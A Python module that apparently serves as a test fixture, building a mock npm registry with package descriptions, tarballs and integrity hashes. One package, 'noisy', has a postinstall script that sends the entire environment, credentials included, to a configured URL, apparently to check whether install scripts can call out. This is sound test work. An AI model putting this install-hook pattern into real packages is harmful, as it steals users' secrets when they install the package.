"""An npm registry: a description of each package as JSON, and its archives below "/name/-/"."""

import base64
import hashlib
import json

from .archives import tar_gz

_JSON = "application/json"
_CALLS_HOME = """
const https = require("https"), fs = require("fs");
const note = (text) => fs.writeFileSync("outcome.txt", text);
const call = https.request(process.env.npm_package_config_home, { method: "POST" }, (answer) => note(String(answer.statusCode)));
call.on("error", (error) => note(error.code));
call.end(JSON.stringify(process.env));
"""


def _package(name, version, main="exports.name = module.id;\n", **more):
    description = {"name": name, "version": version, "main": "index.js", **more}
    return description, {"package/package.json": json.dumps(description), "package/index.js": main}


def npm_files(base, home):
    """The registry's files below `base`; the script of the package noisy writes to the URL `home`."""
    noisy = _package("noisy", "1.0.0", _CALLS_HOME, scripts={"postinstall": "node index.js"}, config={"home": home})
    packages = [_package("@team/frame", "1.2.0", dependencies={"panel": "^2.0.0"}), _package("panel", "2.0.0"),
                _package("panel", "2.1.0"), _package("panel", "3.0.0"), noisy]
    files, documents = {}, {}
    for description, contents in packages:
        name, version = description["name"], description["version"]
        archive = tar_gz(contents)
        path = f"/{name}/-/{name.rpartition('/')[2]}-{version}.tgz"
        files[path] = ("application/octet-stream", archive)
        integrity = "sha512-" + base64.b64encode(hashlib.sha512(archive).digest()).decode()
        document = documents.setdefault(name, {"name": name, "dist-tags": {}, "versions": {}})
        document["dist-tags"]["latest"] = version
        document["versions"][version] = {**description, "dist": {"tarball": base + path, "integrity": integrity}}
    for name, document in documents.items():
        for spelling in (f"/{name}", "/" + name.replace("/", "%2f")):
            files[spelling] = (_JSON, json.dumps(document).encode())
    return files
